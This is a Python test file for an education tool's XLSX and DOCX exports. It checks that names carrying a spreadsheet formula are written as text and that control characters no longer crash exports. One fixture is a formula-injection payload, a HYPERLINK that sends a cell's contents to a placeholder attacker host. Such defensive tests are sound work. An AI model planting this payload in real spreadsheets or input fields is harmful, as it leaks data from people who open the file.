"""Findings 7 and 9 of issue 18: what a name or a note can do to a workbook.

A name arrives from the LMS (an LTI claim) or from a methodist's form; a workbook cell that
starts with "=" was written as a formula, and one control character made openpyxl raise, so
the export answered 500 for everyone until the data was cleaned.
"""
from __future__ import annotations

import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from lti_tool.web.auth import METHODIST, TUTOR
from lti_tool.events import protocol, signup
from lti_tool.events.models import Event
from lti_tool.web.extensions import db
from lti_tool.core.reference import Person
from tests.events.world import build_world
from tests.resource_map.conftest import build_map

FORMULA = '=HYPERLINK("https://evil.test/steal?c="&A1,"Открыть протокол")'


def _cells(data: bytes):
    """Every non-empty cell of every sheet."""
    return [cell for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for cell in row
            if cell.value is not None]


def _protocol_with(db_session, name: str, note: str = "Решение"):
    world = build_world(db_session, teachers=2)
    db_session.get(Person, world.teachers[0]).full_name = name
    signup.sign_up(db_session, world.event_id, world.teachers[0], by_staff=True)
    protocol.add_note(db_session, db_session.get(Event, world.event_id), note)
    db_session.commit()
    return world


def test_finding_07_a_name_is_never_a_formula_in_the_protocol(client, auth, db_session):
    world = _protocol_with(db_session, FORMULA)
    auth.login(TUTOR, network_id=world.network_id, user_id=world.tutor_user_id)
    response = client.get(f"/events/{world.event_id}/protocol.xlsx")
    assert response.status_code == 200
    cells = _cells(response.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the protocol"
    assert FORMULA in [c.value for c in cells]  # the name is kept, as text


def test_finding_07_a_name_is_never_a_formula_in_the_resource_map_export(app, client, auth):
    nid = auth.network()
    with app.test_request_context("/"):
        rows = build_map(db.session, nid)
        db.session.get(Person, rows["anna"].id).full_name = FORMULA
        db.session.get(type(rows["dou8"]), rows["dou8"].id).name = "+7 (3822) 00-00-00"
        db.session.commit()
    auth.login(METHODIST, network_id=nid)
    response = client.get("/resource-map/export.xlsx")
    assert response.status_code == 200
    cells = _cells(response.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the export"
    assert any(FORMULA in str(c.value) for c in cells)


def test_finding_09_control_characters_do_not_break_the_protocol(client, auth, db_session):
    world = _protocol_with(db_session, "Анна\x01 Петровна", note="Решение\x00 принято\x1b")
    auth.login(TUTOR, network_id=world.network_id, user_id=world.tutor_user_id)
    response = client.get(f"/events/{world.event_id}/protocol.xlsx")
    assert response.status_code == 200
    values = [c.value for c in _cells(response.data)]
    assert "Анна Петровна" in values and any("Решение принято" in str(v) for v in values)


def test_finding_09_control_characters_do_not_break_the_resource_map_export(app, client, auth):
    nid = auth.network()
    with app.test_request_context("/"):
        rows = build_map(db.session, nid)
        db.session.execute(sa.update(Person).where(Person.id == rows["anna"].id)
                           .values(full_name="Смирнова\x01 Анна Петровна", position="воспитатель\x00"))
        db.session.commit()
    auth.login(METHODIST, network_id=nid)
    response = client.get("/resource-map/export.xlsx")
    assert response.status_code == 200
    assert any("Смирнова Анна Петровна" in str(c.value) for c in _cells(response.data))


def test_finding_09_sibling_control_characters_do_not_break_documents(app):
    """The DOCX documents (protocols, analytical notes, the yearly report) came after the issue:
    python-docx raises on a control character, so one in a name broke every document with it."""
    from docx import Document as open_docx

    from lti_tool.documents.docx_writer import to_docx
    from lti_tool.documents.model import Document, Labelled, Para, Requisites, Table

    with app.test_request_context():
        doc = Document(Requisites("АМСТ\x01", "ПРОТОКОЛ", "15.10.2025", "3", subject="Итоги\x0b года"))
        doc.add(Para("Анна\x01 Петровна")).add(Labelled("Слушали", "Решение\x00 принято"))
        doc.add(Table(1, "Участники", ["ФИО", "Балл"], [["Смирнова\x1b Анна", "5"]]))
        out = open_docx(io.BytesIO(to_docx(doc)))
    text = "\n".join(p.text for p in out.paragraphs) + "\n".join(c.text for t in out.tables for r in t.rows
                                                                  for c in r.cells)
    assert "Анна Петровна" in text and "Решение принято" in text and "Смирнова Анна" in text
